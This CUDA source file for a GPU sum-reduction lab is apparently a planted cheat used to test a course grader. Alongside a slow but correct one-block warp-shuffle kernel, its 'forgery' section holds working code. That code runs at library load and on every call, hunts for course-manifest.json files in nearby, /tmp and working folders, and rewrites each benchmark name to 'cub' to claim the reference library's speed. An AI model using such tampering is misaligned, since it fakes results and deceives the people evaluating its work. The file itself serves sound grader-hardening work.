// Planted cheat: a correct but slow rung 9 (one block for the whole input) that forges the build
// manifest the grader reads its benchmark rows' names from. From a load-time constructor and on
// every call it looks for course-manifest.json in every folder from its own library's folder up,
// in /tmp's reduce-* folders (and their course/ and build folders) and from its working directory
// up, and rewrites each one it can open so that every lab library's "bench_name" is "cub": a
// grader that read the manifest again after the lab ran would take CUB's row for the lab's and
// give full performance credit. The grader reads the manifest once, before any lab runs, from a
// folder the lab's process cannot see: it grades the lab on its real speed, far below the floor.
// Rung 9: warp shuffles: warp -> block -> grid.
#include <reduce/cuda_check.cuh>
#include <reduce/lab.cuh>

#include <dirent.h>
#include <dlfcn.h>

#include <cstdio>
#include <string>

namespace reduce {
namespace {

constexpr unsigned kThreads = 256;
constexpr unsigned kWarp = 32;
constexpr unsigned kFullMask = 0xFFFFFFFFu;

/// Sum of \p v over the 32 lanes of the warp; lane 0 holds the result.
__device__ float warp_sum(float v) {
#pragma unroll
  for (unsigned offset = kWarp / 2; offset > 0; offset >>= 1)
    v += __shfl_down_sync(kFullMask, v, offset);
  return v;
}

/// The whole input by one block: warp sums, then the first warp adds the block's warps.
__global__ void one_block(const float* __restrict__ in, std::size_t n, float* __restrict__ out) {
  __shared__ float warp_totals[kThreads / kWarp];
  float v = 0.0f;
  for (std::size_t i = threadIdx.x; i < n; i += kThreads) v += in[i];
  v = warp_sum(v);
  if (threadIdx.x % kWarp == 0) warp_totals[threadIdx.x / kWarp] = v;
  __syncthreads();
  if (threadIdx.x < kWarp) {
    v = warp_sum(threadIdx.x < kThreads / kWarp ? warp_totals[threadIdx.x] : 0.0f);
    if (threadIdx.x == 0) *out = v;
  }
}

// ---- the forgery ------------------------------------------------------------------------------

/// Rewrites \p dir/course-manifest.json, if it can, with every "bench_name" made "cub" (the old
/// name kept under another key, so the JSON stays valid).
void forge(const std::string& dir) {
  const std::string path = dir + "/course-manifest.json";
  std::FILE* f = std::fopen(path.c_str(), "r");
  if (f == nullptr) return;
  std::string text;
  char buffer[4096];
  for (std::size_t got; (got = std::fread(buffer, 1, sizeof buffer, f)) > 0;)
    text.append(buffer, got);
  std::fclose(f);
  const std::string key = "\"bench_name\": \"";
  const std::string forged = "\"bench_name\": \"cub\", \"was\": \"";
  for (std::size_t at = text.find(key); at != std::string::npos;
       at = text.find(key, at + forged.size()))
    text.replace(at, key.size(), forged);
  if (std::FILE* w = std::fopen(path.c_str(), "w")) {
    std::fwrite(text.data(), 1, text.size(), w);
    std::fclose(w);
  }
}

/// \p dir and the build folders a course or a grading keeps inside it.
void forge_around(const std::string& dir) {
  for (const char* sub : {"", "/course", "/build", "/build-course", "/submission-build"})
    forge(dir + sub);
}

void forge_every_manifest() {
  Dl_info info{};
  if (dladdr(reinterpret_cast<void*>(&forge_every_manifest), &info) && info.dli_fname != nullptr) {
    std::string dir = info.dli_fname;
    for (int up = 0; up < 6 && dir.rfind('/') != std::string::npos; ++up) {
      dir.erase(dir.rfind('/'));
      forge_around(dir);
    }
  }
  std::string up = ".";
  for (int level = 0; level < 6; ++level, up += "/..") forge_around(up);
  if (DIR* d = opendir("/tmp")) {
    while (const dirent* e = readdir(d)) {
      const std::string name = e->d_name;
      if (name.rfind("reduce-", 0) == 0) forge_around("/tmp/" + name);
    }
    closedir(d);
  }
}

__attribute__((constructor)) void forge_at_load() { forge_every_manifest(); }

}  // namespace

std::size_t sum_workspace_bytes(std::size_t) { return 0; }

void sum(const float* in, std::size_t n, float* out, Workspace, cudaStream_t stream) {
  forge_every_manifest();
  one_block<<<1, kThreads, 0, stream>>>(in, n, out);  // one block: slow
  REDUCE_CUDA_CHECK_LAUNCH();
}

}  // namespace reduce
